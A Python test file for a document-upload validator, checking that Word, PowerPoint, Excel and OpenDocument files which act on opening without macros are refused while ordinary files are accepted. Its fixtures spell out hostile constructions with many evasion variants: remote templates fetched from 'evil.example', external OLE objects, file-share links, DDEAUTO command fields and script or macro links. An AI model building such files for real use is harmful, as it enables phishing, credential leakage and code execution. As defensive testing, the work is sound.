"""Office files that act when they are opened, without a macro in them: none is taken."""

import zipfile
from io import BytesIO

import pytest

from cardumen.files.contents import examine
from cardumen.kernel.errors import Invalid

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SCHEMA = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def link(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{SCHEMA}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )


def word(**parts: str | bytes) -> BytesIO:
    return packed({"[Content_Types].xml": f"<Types>{WORD}</Types>", **parts})


def packed(parts: dict[str, str | bytes]) -> BytesIO:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            if isinstance(text, str) and name.endswith(".xml") and not text.startswith("<?xml"):
                text = f"<root>{text}</root>"
            archive.writestr(name, text)
    return file


def field(said: str) -> BytesIO:
    return word(**{"word/document.xml": f"<w:instrText>{said}</w:instrText>"})


def open_document(content: str) -> BytesIO:
    kind = "application/vnd.oasis.opendocument.text"
    return packed({"mimetype": kind, "content.xml": content})


ATTACKS = {
    "template": word(
        **{"word/_rels/settings.xml.rels": link("attachedTemplate", "https://evil.example/a.dotm")}
    ),
    "template written otherwise": word(
        **{
            "word/_rels/settings.xml.rels": link(
                "&#97;ttachedTemplate", "https://evil.example/a", "&#69;xternal"
            )
        }
    ),
    "object from elsewhere": word(
        **{"word/_rels/document.xml.rels": link("oleObject", "https://evil.example/a.html!x")}
    ),
    "frame": word(**{"word/_rels/webSettings.xml.rels": link("frame", "file://evil/share")}),
    "picture of a share": word(
        **{"word/_rels/document.xml.rels": link("image", "file://///evil.example/a.png")}
    ),
    "object inside": word(**{"word/embeddings/oleObject1.bin": "x"}),
    "command": word(**{"word/document.xml": "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"}),
    "command in pieces": word(
        **{"word/document.xml": "<w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>"}
    ),
    "command in a simple field": word(
        **{"word/header1.xml": '<w:fldSimple w:instr="&#68;DE cmd"/>'}
    ),
    "command around a comment": field("D<!-- -->DE cmd"),
    "command as it stands": field("<![CDATA[DDEAUTO cmd]]>"),
    "command in numbers": field("QUOTE 68 68 69 65 85 84 79"),
    "command in a part of another name": word(
        **{"word/document.dat": "<a><w:instrText>DDE cmd</w:instrText></a>"}
    ),
    "command in letters of another kind": word(
        **{"word/document.xml": '<?xml version="1.0" encoding="utf-7"?><a>+ADw-w:instrText</a>'}
    ),
    "letters of another kind, declared far to the right": word(
        **{"word/document.xml": f'<?xml version="1.0"{" " * 150}encoding="utf-7"?><a>+ADw-</a>'}
    ),
    "letters of a large old machine": word(
        **{"word/document.xml": '<?xml version="1.0" encoding="ibm037"?><ddeLink/>'.encode("cp037")}
    ),
    "picture of a field, from a share": field('INCLUDEPICTURE "\\\\\\\\evil\\\\a.png"'),
    "text of a field, from a disk": field("INCLUDETEXT file:///c:/a.txt"),
    "page inside": word(**{"word/_rels/document.xml.rels": link("aFChunk", "a.html", "Internal")}),
    "object under another name": word(
        **{"word/_rels/document.xml.rels": link("oleObject", "a.dat", "Internal")}
    ),
    "program on touch": word(
        **{"ppt/slides/slide1.xml": '<a:hlinkMouseOver action="ppaction&#58;//program"/>'}
    ),
    "table that fetches its data": word(
        **{"xl/connections.xml": "<connection><dbPr/></connection>"}
    ),
    "command of a table": word(**{"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}),
    "script": open_document('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
    "script under another name": open_document(
        '<s:event-listener a=">" x:href="&#118;nd.sun.star.script:a"/>'
    ),
    "script in a link": open_document('<text:a x:href="&#109;acro:///Standard.Module1.Main()"/>'),
    "frame of the other family": open_document(
        '<draw:floating-frame x:href="https://evil.example"/>'
    ),
    "text from elsewhere": open_document('<text:section-source x:href="file://evil/a.odt"/>'),
    "command of the other family": open_document("<text:dde-connection/>"),
    "object of the other family": open_document("<draw:object-ole/>"),
    "entity": word(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>'}),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_file_that_acts_is_refused_with_what_to_do(name: str):
    with pytest.raises(Invalid, match="PDF"):
        examine(ATTACKS[name], 1000)


@pytest.mark.parametrize(
    "file",
    [
        word(**{"word/_rels/document.xml.rels": link("hyperlink", "https://mineduc.cl")}),
        word(**{"word/_rels/document.xml.rels": link("image", "https://mineduc.cl/a.png")}),
        field(' TOC \\o "1-3" \\h '),
        field(' HYPERLINK "https://mineduc.cl" '),
        word(**{"ppt/slides/slide1.xml": '<a:hlinkClick action="ppaction://hlinksldjump"/>'}),
        open_document('<presentation:event-listener presentation:action="next-page"/>'),
        word(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": "a chart", "word/document.xml": ""}),
        word(**{"word/document.xml": "<w:instrText> PAGE </w:instrText><w:t>DDE is told</w:t>"}),
        open_document("<text:p>Un objeto de aprendizaje</text:p>"),
    ],
)
def test_an_honest_file_is_taken(file: BytesIO):
    assert examine(file, 1000).extension in {".docx", ".odt"}


def test_two_parts_of_one_name_are_a_damaged_file():
    file = word()
    with zipfile.ZipFile(file, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("[Content_Types].xml", "<Types/>")
    with pytest.raises(Invalid, match="damaged"):
        examine(file, 1000)


@pytest.mark.parametrize("begun", ["<w:instrText ", "<a:hlinkClick", "<s:event-listener "])
def test_what_is_begun_again_and_again_is_read_once(begun: str):
    """Read again from each beginning, it would take days."""
    many = word(**{"word/document.xml": begun * (1_900_000 // len(begun))})
    with pytest.raises(Invalid, match="damaged"):
        examine(many, 1000)


def test_names_of_parts_are_read_once():
    long = "embeddings/" * 5_900
    assert examine(word(**{f"{long}{number}": "" for number in range(20)}), 1000)
